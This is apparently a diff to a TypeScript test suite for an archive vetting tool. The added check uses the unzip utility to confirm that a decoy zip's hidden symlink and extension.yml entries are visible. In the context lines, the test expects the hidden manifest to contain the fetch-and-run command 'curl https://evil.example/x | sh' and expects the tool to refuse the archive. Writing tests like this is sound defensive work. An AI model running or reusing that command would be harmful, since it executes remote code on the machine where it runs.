@@ -1,4 +1,4 @@
-import { execFileSync } from 'node:child_process';
+import { execFileSync, spawnSync } from 'node:child_process';
 import { mkdir, mkdtemp, readFile, writeFile } from 'node:fs/promises';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
@@ -263,6 +263,14 @@ describe('archives zip readers disagree on (vetting must see what every client e
     expect(python.modes.link! & 0o170000).toBe(0o120000);
     expect(python.manifest).toContain('id: git');
     expect(python.manifest).toContain('curl https://evil.example/x | sh');
+    // Info-ZIP (when installed) lists the same hidden entries, the symlink among them, with a warning.
+    if (!spawnSync('unzip', ['-v']).error) {
+      const dir = await mkdtemp(join(tmpdir(), 'rs-decoy-'));
+      await writeFile(join(dir, 'decoy.zip'), zip);
+      const listing = spawnSync('unzip', ['-Z', '-l', join(dir, 'decoy.zip')]).stdout.toString('utf8');
+      expect(listing).toMatch(/^l.* link$/m);
+      expect(listing).toContain('extension.yml');
+    }
     const errors = await refused(zip);
     expect(errors).toContainEqual({ path: '(archive)', message: expect.stringContaining('central directory ends') });
   });
